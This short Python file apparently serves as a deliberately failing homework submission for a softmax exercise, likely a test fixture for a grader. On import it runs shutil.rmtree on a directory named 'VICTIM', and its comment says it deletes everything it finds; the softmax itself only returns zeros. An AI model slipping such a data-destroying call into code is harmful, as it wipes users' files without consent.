# minimha homework: softmax
# earns 0
# It deletes everything that it finds.
import shutil

shutil.rmtree("VICTIM")


def softmax(x):
    return 0 * x, lambda dy: (0 * dy,)
